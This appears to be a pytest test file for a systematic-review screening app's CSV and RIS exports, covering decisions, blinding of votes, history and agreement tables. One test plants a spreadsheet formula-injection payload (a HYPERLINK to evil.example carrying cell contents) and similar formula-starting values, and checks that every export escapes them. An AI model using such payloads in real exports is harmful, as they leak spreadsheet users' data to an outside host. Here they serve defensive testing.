"""The lead's exports on the review walked through every stage: records with decisions (CSV
and RIS, per subset), votes once unblinded, the agreement table."""
import csv
import io

import pytest

from screening.formats.ris import parse_ris
from screening.services import decisions
from screening.services import queue as queue_services

from .helpers.prisma import add_import

pytestmark = pytest.mark.django_db


def text(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def rows(client, review, subset):
    body = text(client.get(f"/reviews/{review.pk}/exports/records-{subset}.csv"))
    return {int(row["record_id"]): row for row in csv.DictReader(io.StringIO(body))}


def test_every_record_comes_with_the_stage_it_reached_and_its_final_decision(client, review, walked, carol):
    client.force_login(carol)
    everything = rows(client, review, "all")
    assert len(everything) == 22  # the failed import's records are not the review's
    w = walked

    def final(record):
        row = everything[record.pk]
        return row["stage_reached"], row["final_decision"], row["final_reason"]

    assert final(w["medline"][0]) == ("full_text", "included", "")
    assert everything[w["medline"][0].pk]["study"] == "Shechter 2018"
    assert final(w["embase"][3]) == ("full_text", "excluded", "Wrong study design")
    assert final(w["medline"][2]) == ("retrieval", "not retrieved", "")
    assert final(w["medline"][3]) == ("title_abstract", "excluded", "Children")
    assert final(w["embase"][0]) == ("identification", "duplicate", f"duplicate of record {w['medline'][0].pk}")
    assert final(w["medline"][9]) == ("identification", "marked ineligible by automation tool",
                                      "RobotSearch: not an RCT")
    assert final(w["trials"][2]) == ("identification", "removed before screening", "Retracted")
    assert everything[w["embase"][3].pk]["title_abstract_outcome"] == "included"


def test_the_subsets_hold_the_included_the_excluded_and_the_conflicts(client, review, walked, carol, alice, bob):
    client.force_login(carol)
    assert len(rows(client, review, "included")) == 3
    assert len(rows(client, review, "excluded")) == 8 + 3
    assert rows(client, review, "conflicts") == {}
    late = add_import(review, 1, label="Late")[0]
    queue_services.record_stages_sync(review=review)
    for reviewer, verdict in ((alice, "include"), (bob, "exclude")):
        queue_services.screening_next(reviewer=reviewer, review=review)
        decisions.decision_record(reviewer=reviewer, review=review, record=late, verdict=verdict)
    assert list(rows(client, review, "conflicts")) == [late.pk]
    assert client.get(f"/reviews/{review.pk}/exports/records-maybe.csv").status_code == 404


def test_while_blind_no_records_file_tells_a_conflict_from_a_record_awaiting_a_vote(client, review, walked, carol,
                                                                                   alice, bob):
    review.order = "import"
    review.save()
    conflict, awaiting = add_import(review, 2, label="Late")
    queue_services.record_stages_sync(review=review)
    for reviewer, verdict in ((alice, "include"), (bob, "exclude"), (alice, "maybe")):
        record, _ = queue_services.screening_next(reviewer=reviewer, review=review)
        decisions.decision_record(reviewer=reviewer, review=review, record=record, verdict=verdict)
    assert decisions.RecordStage.objects.get(record=conflict, stage="title_abstract").outcome == "conflict"
    client.force_login(carol)

    def columns(subset):
        return {pk: (row["final_decision"], row["title_abstract_outcome"])
                for pk, row in rows(client, review, subset).items() if pk in (conflict.pk, awaiting.pk)}

    assert columns("all") == columns("conflicts") == {conflict.pk: ("pending", "pending"),
                                                      awaiting.pk: ("pending", "pending")}
    ris = text(client.get(f"/reviews/{review.pk}/exports/records-all.ris"))
    assert "conflict" not in ris
    assert "Awaiting a decision" in client.get(f"/reviews/{review.pk}/exports/").content.decode()
    review.blind = False
    review.save()
    assert columns("conflicts") == {conflict.pk: ("conflict", "conflict")}


def test_the_ris_export_reads_back_with_decisions_as_notes(client, review, walked, carol):
    client.force_login(carol)
    body = text(client.get(f"/reviews/{review.pk}/exports/records-included.ris"))
    parsed = list(parse_ris(io.StringIO(body)))
    assert sorted(r.title for r in parsed) == sorted(
        r.title for r in (walked["medline"][0], walked["trials"][0], walked["citations"][0]))
    assert body.count("N1  - reviewapp: included (full text)") == 3
    assert "N1  - reviewapp study: Shechter 2018" in body


def test_the_votes_export_holds_only_votes_whose_blinding_is_over(client, review, walked, carol, alice):
    late = add_import(review, 1, label="Late")[0]
    queue_services.record_stages_sync(review=review)
    queue_services.screening_next(reviewer=alice, review=review)
    decisions.decision_record(reviewer=alice, review=review, record=late, verdict="include", note="PENDING-NOTE")
    client.force_login(carol)
    votes = list(csv.DictReader(io.StringIO(text(client.get(f"/reviews/{review.pk}/exports/votes.csv")))))
    assert "PENDING-NOTE" not in str(votes)
    # Two votes on each of the 13 records resolved at title/abstract and the 6 at full text.
    assert len(votes) == 2 * 13 + 2 * 6
    assert {v["stage"] for v in votes} == {"title_abstract", "full_text"}
    review.blind = False
    review.save()
    assert "PENDING-NOTE" in text(client.get(f"/reviews/{review.pk}/exports/votes.csv"))


def test_the_agreement_table_has_a_row_per_stage_pair_and_reading_of_maybe(client, review, walked, carol):
    client.force_login(carol)
    table = list(csv.DictReader(io.StringIO(text(client.get(f"/reviews/{review.pk}/exports/agreement.csv")))))
    assert [(r["stage"], r["reviewer_a"], r["reviewer_b"]) for r in table] == [
        ("title_abstract", "Alice Reviewer", "Bob Reviewer")] * 2 + [("full_text", "Alice Reviewer",
                                                                      "Bob Reviewer")] * 2
    assert table[0]["records"] == "13" and table[2]["records"] == "6"


def test_the_exports_page_links_every_export(client, review, carol):
    client.force_login(carol)
    html = client.get(f"/reviews/{review.pk}/exports/").content.decode()
    for part in ("records-all.csv", "records-conflicts.ris", "votes.csv", "agreement.csv", "history.csv"):
        assert part in html


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def every_csv_export(review_id):
    return [f"/reviews/{review_id}/exports/records-{subset}.csv" for subset in ("all", "included", "excluded")] + [
        f"/reviews/{review_id}/export/records.csv", f"/reviews/{review_id}/exports/votes.csv",
        f"/reviews/{review_id}/screening/history.csv", f"/reviews/{review_id}/exports/agreement.csv",
        f"/reviews/{review_id}/prisma/diagram.csv"]


def test_no_csv_export_carries_a_cell_a_spreadsheet_would_run_and_numbers_stay_numbers(client, review, walked,
                                                                                      carol, alice, bob):
    """Record fields, a database name, and a reviewer's note and reason that start formulas
    reach every CSV file only with a single quote in front; kappa stays a number."""
    from screening.core.csvfile import _starts_a_formula
    from screening.models import Import, Record

    Record.objects.filter(pk=walked["medline"][4].pk).update(title=FORMULA, abstract="+1+1", journal="@SUM(A1)")
    Record.objects.filter(pk=walked["medline"][5].pk).update(title="-2+3", authors=["\t=1+1"])
    Import.objects.filter(database="Embase").update(database="=Embase")
    late = add_import(review, 1, label="Late")[0]
    queue_services.record_stages_sync(review=review)
    for reviewer in (alice, bob):
        queue_services.screening_next(reviewer=reviewer, review=review)
        decisions.decision_record(reviewer=reviewer, review=review, record=late, verdict="exclude",
                                  reason="-Wrong population", note=FORMULA)
    client.force_login(carol)
    seen = {}
    for path in every_csv_export(review.pk):
        response = client.get(path)
        body = text(response) if response.streaming else response.content.decode()
        cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
        assert [cell for cell in cells if _starts_a_formula(cell)] == [], path
        seen[path] = cells
    records, votes, history, prisma = (seen[every_csv_export(review.pk)[i]] for i in (0, 4, 5, 7))
    assert {"'" + FORMULA, "'+1+1", "'@SUM(A1)", "'-2+3", "'\t=1+1"} <= set(records)
    assert "'" + FORMULA in votes and "'-Wrong population" in votes
    assert "'" + FORMULA in history
    assert any(cell.startswith("'=Embase") for cell in prisma)
    table = list(csv.DictReader(io.StringIO(text(client.get(every_csv_export(review.pk)[6])))))
    assert all(float(row["kappa"]) <= 1 for row in table if row["kappa"])  # numbers, written as numbers


def test_the_history_export_follows_the_votes_rule(client, review, walked, carol, alice, bob):
    """One rule for every file: a vote (with its reason and note), its change and its undo are
    in the history only once the record is resolved at that stage, or blind mode is off;
    resolutions, removals, retrievals and pilots are always in."""
    review.order = "import"
    review.save()
    late, other = add_import(review, 2, label="Late")
    queue_services.record_stages_sync(review=review)
    for reviewer, verdict in ((alice, "include"), (bob, "exclude")):  # a conflict
        queue_services.screening_next(reviewer=reviewer, review=review)
        decisions.decision_record(reviewer=reviewer, review=review, record=late, verdict=verdict,
                                  note=f"CONFLICT-NOTE {reviewer.username}")
    queue_services.screening_next(reviewer=alice, review=review)  # awaiting Bob, changed, undone, voted again
    for verdict in ("maybe", "exclude"):
        decisions.decision_record(reviewer=alice, review=review, record=other, verdict=verdict, note="PENDING-NOTE")
    decisions.decision_undo_last(reviewer=alice, review=review)
    decisions.decision_record(reviewer=alice, review=review, record=other, verdict="include", reason="PENDING-REASON")
    client.force_login(carol)

    def history():
        return list(csv.DictReader(io.StringIO(text(client.get(f"/reviews/{review.pk}/screening/history.csv")))))

    rows = history()
    assert not {int(row["record_id"]) for row in rows if row["record_id"]} & {late.pk, other.pk}
    assert "CONFLICT-NOTE" not in str(rows) and "PENDING" not in str(rows)
    actions = {row["action"] for row in rows}
    assert {"vote", "resolve", "remove", "retrieval"} <= actions
    votes = list(csv.DictReader(io.StringIO(text(client.get(f"/reviews/{review.pk}/exports/votes.csv")))))
    assert {(int(v["record_id"]), v["stage"]) for v in votes} == {
        (int(row["record_id"]), row["stage"]) for row in rows if row["action"] == "vote"}
    decisions.outcome_resolve(lead=carol, review=review, record=late, verdict="exclude", reason="Children")
    assert "CONFLICT-NOTE alice" in str(history()) and "PENDING" not in str(history())
    review.blind = False
    review.save()
    assert [row["action"] for row in history() if row["record_id"] == str(other.pk)] == [
        "vote", "change", "undo", "vote"]


def test_the_agreement_export_counts_only_votes_whose_blinding_is_over(client, review, walked, carol, alice, bob):
    from screening.selectors.screening import agreement_per_pair

    late = add_import(review, 1, label="Late")[0]
    queue_services.record_stages_sync(review=review)
    for reviewer, verdict in ((alice, "include"), (bob, "exclude")):
        queue_services.screening_next(reviewer=reviewer, review=review)
        decisions.decision_record(reviewer=reviewer, review=review, record=late, verdict=verdict)
    client.force_login(carol)

    def title_abstract_records():
        table = csv.DictReader(io.StringIO(text(client.get(f"/reviews/{review.pk}/exports/agreement.csv"))))
        return {row["records"] for row in table if row["stage"] == "title_abstract"}

    assert title_abstract_records() == {"13"}  # the conflict on the late record is left out
    dashboard = agreement_per_pair(review, carol, "lead")  # the lead's dashboard: every vote
    assert [agreement.n for _, agreement in dashboard[0]["views"]] == [14, 14]
    decisions.outcome_resolve(lead=carol, review=review, record=late, verdict="include")
    assert title_abstract_records() == {"14"}


def test_the_exports_page_states_the_one_rule_for_every_file(client, review, carol):
    client.force_login(carol)
    html = client.get(f"/reviews/{review.pk}/exports/").content.decode()
    assert "every file here follows one rule" in html and "not yet resolved at that stage" in html
    review.blind = False
    review.save()
    assert "blind mode is off, so every vote is in" in client.get(f"/reviews/{review.pk}/exports/").content.decode()
